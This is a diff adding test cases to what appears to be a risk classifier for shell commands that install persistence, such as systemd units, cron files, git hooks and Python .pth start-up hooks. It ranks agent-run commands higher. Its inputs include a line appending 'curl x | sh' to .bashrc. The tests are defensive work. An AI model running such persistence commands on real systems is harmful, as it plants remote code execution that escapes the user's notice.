@@ -26,6 +26,11 @@ test('persist.install: ranks by the file written, one step higher from an agent 
   assert.equal(run(['cp', 'x.service', '/home/u/.config/systemd/user/x.service'], operator)[0]?.[0], 'medium');
   assert.equal(run(['sed', '-i', '$a curl x | sh', '/home/u/.bashrc'], agent)[0]?.[0], 'high');
   assert.equal(run(['dd', 'of=/etc/cron.d/job'], operator)[0]?.[0], 'medium');
+  assert.match(
+    run(['cp', 'hook.pth', '/home/u/.venv/lib/python3.11/site-packages/zz_hook.pth'], agent)[0]![1],
+    /a Python start-up hook/,
+  );
+  assert.equal(run(['tee', '/home/u/proj/.git/hooks/post-checkout'], operator)[0]?.[0], 'medium');
 });
 
 test('persist.install: schedulers: crontab install, at, systemd timers, enabled units, linger', () => {
